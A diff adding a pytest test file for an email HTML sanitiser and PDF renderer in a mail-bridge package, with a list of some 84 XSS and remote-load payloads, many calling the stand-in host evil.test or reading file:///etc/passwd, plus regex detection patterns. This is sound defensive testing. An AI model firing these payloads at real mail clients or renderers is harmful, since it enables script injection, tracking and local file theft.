@@ -1,0 +1,327 @@
+"""What a reader sees of a message, and what never leaves a browser or the renderer because of it."""
+
+from email.message import EmailMessage
+from imio.mailbridge.message import pdf
+from imio.mailbridge.message.parse import parse
+from imio.mailbridge.message.rendition import body
+from imio.mailbridge.message.rendition import document
+from imio.mailbridge.message.rendition import head
+from imio.mailbridge.message.rendition import Labels
+from imio.mailbridge.message.sanitise import without_tracking
+from pathlib import Path
+import pytest
+import re
+import socket
+import threading
+import zlib
+
+
+WORDS = Labels()
+MESSAGES = sorted((Path(__file__).parent.parent / "messages").glob("*.eml"))
+PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 20
+
+
+def shown(html):
+    return body(parse(b"From: a@b.test\nContent-Type: text/html; charset=utf-8\n\n" + html.encode()), WORDS)
+
+
+ATTACKS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=http://evil.test/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<img src='x' onerror='alert(1)'>",
+    "<img/src=x/onerror=alert(1)>",
+    '<img src="javascript:alert(1)">',
+    "<img src=JaVaScRiPt:alert(1)>",
+    '<img src="jav&#x09;ascript:alert(1)">',
+    '<img src="&#106;avascript:alert(1)">',
+    '<img dynsrc="javascript:alert(1)">',
+    '<img lowsrc="javascript:alert(1)">',
+    '<img """><script>alert(1)</script>">',
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
+    "<svg><style>*{background:url(http://evil.test)}</style></svg>",
+    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<math href='javascript:alert(1)'>x</math>",
+    "<body onload=alert(1)>",
+    "<body background='javascript:alert(1)'>",
+    "<iframe src='javascript:alert(1)'></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<frameset><frame src='javascript:alert(1)'></frameset>",
+    "<object data='javascript:alert(1)'></object>",
+    "<embed src='http://evil.test/x.swf'>",
+    "<applet code=x></applet>",
+    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+    "<meta http-equiv='Content-Security-Policy' content='default-src *'>",
+    "<base href='http://evil.test/'>",
+    "<link rel=stylesheet href='http://evil.test/x.css'>",
+    "<link rel=prefetch href='http://evil.test/'>",
+    "<style>@import 'http://evil.test/x.css';</style>",
+    "<style>body{background:url(http://evil.test/x)}</style>",
+    "<div style='background:url(http://evil.test/x)'>x</div>",
+    "<div style='background-image:url(http://evil.test/x)'>x</div>",
+    "<div style='width:expression(alert(1))'>x</div>",
+    "<div style='-moz-binding:url(http://evil.test/x)'>x</div>",
+    "<div style='behavior:url(x.htc)'>x</div>",
+    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>x</div>",
+    "<div style='list-style:url(http://evil.test/x)'>x</div>",
+    "<div style='content:url(http://evil.test/x)'>x</div>",
+    "<div style='color:\\75rl(http://evil.test/x)'>x</div>",
+    "<div style='font-family:\\\"}*{x\\\"'>x</div>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "<a href='  javascript:alert(1)'>x</a>",
+    "<a href='java\nscript:alert(1)'>x</a>",
+    "<a href='vbscript:msgbox(1)'>x</a>",
+    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
+    "<a href='file:///etc/passwd'>x</a>",
+    "<a href='x' onclick='alert(1)' onmouseover=alert(1)>x</a>",
+    "<a ping='http://evil.test/' href='http://x.test/'>x</a>",
+    "<form action='http://evil.test/'><input name=password><button formaction='javascript:alert(1)'>x</button></form>",
+    "<isindex action='javascript:alert(1)'>",
+    "<input type=image src='http://evil.test/x' onfocus=alert(1) autofocus>",
+    "<textarea onfocus=alert(1) autofocus></textarea>",
+    "<select onfocus=alert(1) autofocus></select>",
+    "<video src='http://evil.test/x' poster='http://evil.test/p' onerror=alert(1)></video>",
+    "<audio src='http://evil.test/x' autoplay></audio>",
+    "<source src='http://evil.test/x'>",
+    "<img srcset='http://evil.test/x 1x, http://evil.test/y 2x'>",
+    "<picture><source srcset='http://evil.test/x'><img src='http://evil.test/y'></picture>",
+    "<table background='http://evil.test/x'><tr><td background='http://evil.test/y'>x</td></tr></table>",
+    "<bgsound src='http://evil.test/x'>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<template><script>alert(1)</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
+    "<!--><script>alert(1)</script>-->",
+    "<xml onreadystatechange=alert(1)>",
+    "<plaintext><script>alert(1)</script>",
+    "<title><img src=x onerror=alert(1)></title>",
+    "<p>\x00<scri\x00pt>alert(1)</scri\x00pt></p>",
+    "</body></html><script>alert(1)</script>",
+    "<img src='cid:x' onload=alert(1)>",
+    "<img src='//evil.test/x'>",
+    "<img src='\\\\evil.test\\x'>",
+    "<img src='http://127.0.0.1:9/x'>",
+    "<img src='file:///etc/passwd'>",
+    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
+    "<blockquote cite='http://evil.test/'>x</blockquote>",
+    "<q cite='javascript:alert(1)'>x</q>",
+]
+#: What may not stand in the result, in a tag; text that looks like it is harmless.
+FORBIDDEN_TAG = re.compile(
+    r"<\s*/?\s*(?:script|style|link|meta|base|iframe|frame|frameset|object|embed|applet|form|input|button|textarea|select"
+    r"|svg|math|video|audio|source|picture|template|noscript|marquee|xml|isindex|bgsound)\b",
+    re.IGNORECASE,
+)
+FORBIDDEN_ATTRIBUTE = re.compile(
+    r"<[^>]*\s(?:on\w+|srcset|background|poster|ping|action|formaction|srcdoc|cite|dynsrc|lowsrc|xlink:href|data)\s*=",
+    re.IGNORECASE,
+)
+FORBIDDEN_VALUE = re.compile(
+    r"<[^>]*(?:javascript:|vbscript:|file:|expression|url\s*\(|data:(?!image/(?:png|jpeg|gif|webp);)|position\s*:)",
+    re.IGNORECASE,
+)
+LOADS = re.compile(r"<img[^>]*\ssrc=\"(?!data:image/)", re.IGNORECASE)
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_attack_is_neutralised(attack):
+    html = shown(f"<p>Bonjour</p>{attack}<p>fin</p>").html
+    assert "Bonjour" in html
+    for forbidden in (FORBIDDEN_TAG, FORBIDDEN_ATTRIBUTE, FORBIDDEN_VALUE, LOADS):
+        assert not forbidden.search(html.replace('<details class="quote">', "")), html
+
+
+def test_there_are_enough_attacks():
+    assert len(ATTACKS) >= 60
+
+
+@pytest.mark.parametrize(
+    ("html", "blocked"),
+    [
+        ("<p>x</p>", 0),
+        ("<img src='https://t.test/p.gif'>x", 1),
+        ("<img src='https://t.test/p.gif'><img src='http://t.test/q.gif'>x", 2),
+        ("<td background='https://t.test/p.gif'>x</td><table background='https://t.test/p.gif'><tr><td>y", 1),
+        ("<div style='background:url(https://t.test/p.gif)'>x</div>", 1),
+        ("<img srcset='https://t.test/p.gif 2x'>x", 1),
+        ("<img src='data:image/png;base64,AAAA'>x", 0),
+    ],
+)
+def test_what_was_left_out_is_counted_and_said(html, blocked):
+    found = shown(html)
+    assert found.blocked == blocked
+    assert ("remote contents were left out" in document(found, WORDS)) is bool(blocked)
+
+
+def test_style_of_a_newsletter_stays():
+    html = shown(
+        "<table width='600' bgcolor='#eee'><tr><td style='color: red; padding: 4px; float: left'>x</td></tr></table>"
+    ).html
+    assert 'bgcolor="#eee"' in html
+    assert "color:red" in html.replace(" ", "")
+    assert "float" not in html
+
+
+@pytest.mark.parametrize(
+    ("url", "clean"),
+    [
+        ("https://x.test/?utm_source=a&utm_medium=b", "https://x.test/"),
+        ("https://x.test/?a=1&fbclid=2&b=3#c", "https://x.test/?a=1&b=3#c"),
+        ("https://x.test/?a=%C3%A9&b=", "https://x.test/?a=%C3%A9&b="),
+        ("https://x.test/path", "https://x.test/path"),
+        ("mailto:a@x.test?subject=utm_source", "mailto:a@x.test?subject=utm_source"),
+        ("https://[x", "https://[x"),
+    ],
+)
+def test_links_lose_what_follows_the_reader(url, clean):
+    assert without_tracking(url) == clean
+
+
+def mail(html, *images):
+    message = EmailMessage()
+    message["From"] = "Zoé <zoe@citizen.test>"
+    message["To"], message["Subject"] = "contact@maville.test", "Nid de <poule>"
+    message.set_content("Texte seul\n")
+    message.add_alternative(html, "html")
+    for cid, content, kind in images:
+        message.get_payload()[1].add_related(content, *kind.split("/"), cid=cid)
+    return parse(message.as_bytes())
+
+
+def test_inline_images_are_embedded():
+    html = body(mail("<p><img src='cid:Photo%401'></p>", ("<photo@1>", PNG, "image/png")), WORDS).html
+    assert 'src="data:image/png;base64,iVBORw0K' in html
+
+
+@pytest.mark.parametrize(
+    ("content", "kind"), [(b"<svg onload=alert(1)>", "image/svg+xml"), (b"<html>", "image/x-icon")]
+)
+def test_inline_image_of_another_kind_is_not(content, kind):
+    assert "data:" not in body(mail("<p>x<img src='cid:a@1'></p>", ("<a@1>", content, kind)), WORDS).html
+
+
+def test_plain_text_keeps_its_lines_and_links():
+    raw = b"From: a@b.test\nContent-Type: text/plain; charset=utf-8\n\nUn <b>\n  deux  https://x.test/a?b=1&c=2.\n"
+    html = body(parse(raw), WORDS).html
+    assert 'Un &lt;b&gt;\n  deux  <a href="https://x.test/a?b=1&amp;c=2"' in html
+    assert html.startswith('<div class="text">')
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Oui.\n\n> un\n> deux\n> trois\n",
+        "Oui.\n\nLe lun. 16 nov. 2026, Jeanne a écrit :\nun\ndeux\n",
+        "Oui.\n\n-----Message d'origine-----\nDe : x\nun\n",
+    ],
+)
+def test_quoted_text_can_be_folded(text):
+    html = body(
+        parse(b"From: a@b.test\nContent-Type: text/plain; charset=utf-8\n\n" + text.encode()), WORDS
+    ).html
+    assert html.index("Oui.") < html.index("<details") < html.index("un")
+    assert html.count("<details") == html.count("</details>") == 1
+
+
+def test_quoted_html_can_be_folded_and_stays_well_formed():
+    html = shown("<p>Oui</p><blockquote>a<blockquote>b</blockquote></blockquote><p>x</p><blockquote>c").html
+    assert html.count("<details") == html.count("</details>") == 2
+    assert html.count("<blockquote") == html.count("</blockquote>") == 3
+
+
+def test_html_without_content_gives_way_to_the_text():
+    assert "Texte seul" in body(mail("<html><body><style>x</style>&nbsp; <br></body></html>"), WORDS).html
+
+
+def test_head_is_escaped():
+    message = mail("<p>x</p>")
+    html = document(body(message, WORDS), WORDS, head(message, WORDS, "lundi"), ["<plan>.pdf (3 B)"])
+    assert "Nid de &lt;poule&gt;" in html
+    assert "&lt;plan&gt;.pdf (3 B)" in html
+
+
+@pytest.mark.parametrize("path", MESSAGES, ids=lambda path: path.stem)
+def test_whole_corpus_can_be_shown(path):
+    message = parse(path.read_bytes())
+    html = document(body(message, WORDS), WORDS, head(message, WORDS, ""), [])
+    assert not FORBIDDEN_VALUE.search(html.partition("</style>")[2])
+    html.encode()
+
+
+def test_empty_message_says_so():
+    assert WORDS.empty in body(parse(b"From: a@b.test\n\n"), WORDS).html
+
+
+# the PDF
+
+pytestmark_pdf = pytest.mark.skipif(
+    not pdf.is_available(), reason="WeasyPrint is not installed: pip install '.[pdf]'"
+)
+
+
+@pytestmark_pdf
+def test_pdf_is_an_archive_pdf_with_the_words_embedded():
+    written = pdf.render(document(shown("<p>Bonjour é €</p>"), WORDS, [("De", "Zoé")], ["plan.pdf (3 B)"]))
+    assert written.startswith(b"%PDF-1.7")
+    streams = re.findall(rb"stream\r?\n(.*?)\r?\nendstream", written, re.DOTALL)
+    opened = [zlib.decompress(each) if each.startswith(b"x") else each for each in streams]
+    assert any(b"pdfaid:part" in each for each in opened)
+
+
+@pytestmark_pdf
+def test_renderer_asks_nobody(tmp_path):
+    connections = []
+    with socket.create_server(("127.0.0.1", 0)) as server:
+        port = server.getsockname()[1]
+        server.settimeout(0.1)
+        ended = threading.Event()
+
+        def count():
+            while not ended.is_set():
+                try:
+                    server.accept()[0].close()
+                except TimeoutError:
+                    continue
+                connections.append(1)
+
+        counting = threading.Thread(target=count)
+        counting.start()
+        secret = tmp_path / "secret.txt"
+        secret.write_text("geheim-secret")
+        here = f"http://127.0.0.1:{port}"
+        # not cleaned: what the renderer would be given if all else failed
+        html = f"""<html><head><link rel=stylesheet href="{here}/a.css"><style>@import url({here}/b.css);
+            @font-face {{ font-family: x; src: url({here}/c.woff) }} body {{ background: url({here}/d.png); font-family: x }}
+            </style></head><body><img src="{here}/e.png"><img src="file://{secret}"><object data="{here}/f.svg"></object>
+            <img srcset="{here}/g.png 2x"><a rel=attachment href="file://{secret}">x</a><link rel=attachment href="{here}/h">
+            <svg><image href="{here}/i.png"/></svg><p>Bonjour</p></body></html>"""
+        try:
+            written = pdf.render(html)
+        finally:
+            ended.set()
+            counting.join()
+    assert written.startswith(b"%PDF")
+    assert connections == []
+    assert b"geheim" not in written
+
+
+@pytestmark_pdf
+def test_renderer_that_takes_too_long_is_ended():
+    html = (
+        "<p>" + "<div>" * 300 + "x" + "</div>" * 300 + "<table>" + "<tr><td>x</td></tr>" * 50_000 + "</table>"
+    )
+    with pytest.raises(pdf.RenderingError, match="more than 1 s"):
+        pdf.render(html, seconds=1)
+
+
+@pytestmark_pdf
+def test_renderer_that_fails_says_why(monkeypatch):
+    monkeypatch.setattr(pdf, "VARIANT", "x")
+    monkeypatch.setenv("PYTHONMALLOC", "nonsense")
+    with pytest.raises(pdf.RenderingError):
+        pdf.render("<p>x")
